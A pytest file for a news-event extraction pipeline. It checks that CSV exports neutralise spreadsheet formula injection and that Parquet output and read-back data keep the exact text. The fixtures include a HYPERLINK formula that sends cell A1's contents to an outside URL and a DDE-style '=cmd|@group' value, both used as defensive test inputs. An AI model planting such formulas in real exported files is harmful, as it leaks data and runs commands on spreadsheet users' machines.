"""CSV files written for people never carry a formula; the Parquet files and what the pipeline reads back keep the
exact text."""

import json

import pandas as pd
import pyarrow as pa
import pytest

from pipeline import cli, events, spreadsheet, store

FORMULA = '=HYPERLINK("http://example.org/?"&A1,"Click") Turkish troops entered Idlib on Monday, 3 February 2020.'
TITLE = "@Idlib: -Turkish troops enter"


@pytest.mark.parametrize(
    "text", ["=1+1", "+SUM(A1)", "-2", "@cmd", "\tx", "\rx", "'=x", "''-y", "'abc", "'", "Turkey", "", "a=b"]
)
def test_unquote_undoes_neutralise(text):
    written = spreadsheet.neutralise(text)
    assert not str(written).startswith(spreadsheet.FORMULA_STARTS)
    assert spreadsheet.unquote(str(written)) == text
    table = pa.table({"t": [text]})
    assert spreadsheet.neutralise_table(table).column("t").to_pylist() == [written]
    assert spreadsheet.unquote_table(spreadsheet.neutralise_table(table)).equals(table)


def test_numbers_stay_numbers():
    table = pa.table({"n": pa.array([-5, 3]), "x": pa.array([-1.5, None]), "t": pa.array(["-5", None])})
    out = spreadsheet.neutralise_table(table)
    assert out.column("n").to_pylist() == [-5, 3] and out.column("x").to_pylist() == [-1.5, None]
    assert out.column("t").to_pylist() == ["'-5", None]


def _article(folder, name, text, title):
    folder.mkdir(exist_ok=True)
    (folder / f"{name}.json").write_text(json.dumps({"title": title, "text": text}), encoding="utf-8")


def test_the_command_lines_csv_files_are_neutralised_and_read_back_exactly(tmp_path):
    src, out = tmp_path / "in", tmp_path / "out"
    _article(src, "a", FORMULA, TITLE)
    assert cli.main(["build", str(src), "--out", str(out), "--no-progress"]) == 0
    # a second document after the first: the rebuild appends to the CSV files
    _article(src, "b", "-Russian forces shelled Kharkiv on Tuesday, 4 February 2020.", "+Kharkiv")
    assert cli.main(["build", str(src), "--out", str(out), "--no-progress"]) == 0

    def csv(name):
        return pd.read_csv(out / name, dtype=str, keep_default_na=False)

    for name, column in [("events.csv", "sentence"), ("documents.csv", "title"), ("mentions.csv", None),
                         ("candidates.csv", None), ("places.csv", None), ("incidents.csv", None)]:  # fmt: skip
        frame = csv(name)
        for col in frame.columns:
            assert not frame[col].str.startswith(spreadsheet.FORMULA_STARTS).any(), (name, col)
        if column:
            assert frame[column].str.startswith("'").any(), name
    evts = csv("events.csv")
    assert "'" + FORMULA in set(evts["sentence"])
    assert any(s.startswith("'-Russian forces") for s in evts["sentence"])  # appended by the rebuild
    parquet = pd.read_parquet(out / "events.parquet")
    assert FORMULA in set(parquet["sentence"])  # the exact text
    tables = store.read_tables(out)
    assert set(tables.documents["title"]) == {TITLE, "+Kharkiv"}
    assert FORMULA in set(tables.events["sentence"])


def test_corrections_and_fixes_files_are_neutralised_and_read_back_exactly(tmp_path):
    from pipeline import corrections, pubdate

    fix = corrections.Correction(
        doc_id="-doc", char_start="3", char_end="9", sentence_hash="abc", time_text="+2 days",
        actors="=cmd|@group", locations="'-Idlib", note="-not a strike",
    )  # fmt: skip
    corrections.save(tmp_path, [fix])
    written = pd.read_csv(corrections.path_for(tmp_path), dtype=str, keep_default_na=False)
    assert written.loc[0, "actors"] == "'=cmd|@group" and written.loc[0, "note"] == "'-not a strike"
    assert written.loc[0, "locations"] == "''-Idlib" and written.loc[0, "char_start"] == "3"
    assert corrections.load(tmp_path) == [fix]

    path = tmp_path / "pubdate_fixes.csv"
    pubdate.save_fix(path, "-doc", pubdate.dt.date(2020, 2, 3), note="=wrong year", digest="d1")
    pubdate.save_fix(path, "other", pubdate.dt.date(2021, 1, 1), note="@x", digest="d2")  # reads the first back
    rows = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert rows["doc_id"].tolist() == ["'-doc", "other"] and rows["note"].tolist() == ["'=wrong year", "'@x"]
    assert pubdate.load_fixes(path) == {"-doc#d1": pubdate.dt.date(2020, 2, 3), "other#d2": pubdate.dt.date(2021, 1, 1)}


def test_a_kept_part_is_linked_and_writing_the_staged_part_again_leaves_the_last_builds_file_as_it_was(tmp_path):
    from pipeline.store import DATASET, Staging, part_file, read_part

    def tables(doc_id: str) -> dict:
        return {name: events.table([{c: (doc_id if c == "doc_id" else None) for c in columns}], columns)
                for name, columns in DATASET.items()}  # fmt: skip

    first = Staging(tmp_path)
    old = first.write_part(tables("old"))
    for table in DATASET:  # as a commit moves them in
        part_file(tmp_path, table, old).parent.mkdir(parents=True, exist_ok=True)
        part_file(first.dir, table, old).rename(part_file(tmp_path, table, old))
    second = Staging(tmp_path)
    new = second.copy_part(old, {"events": tables("new")["events"]})
    assert read_part(second.dir, "mentions", new).column("doc_id").to_pylist() == ["old"]
    second.write_part({"mentions": tables("new")["mentions"]}, new)  # a table of the staged part written again
    assert read_part(second.dir, "mentions", new).column("doc_id").to_pylist() == ["new"]
    assert read_part(tmp_path, "mentions", old).column("doc_id").to_pylist() == ["old"]
